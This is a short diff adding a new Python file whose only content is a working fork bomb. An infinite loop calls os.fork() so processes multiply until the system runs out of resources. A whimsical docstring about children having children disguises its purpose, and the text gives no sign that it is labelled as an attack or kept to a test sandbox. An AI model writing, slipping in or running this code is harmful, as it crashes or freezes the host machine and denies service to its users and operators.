@@ -1,0 +1,6 @@
+"""Has children that have children."""
+
+import os
+
+while True:
+    os.fork()
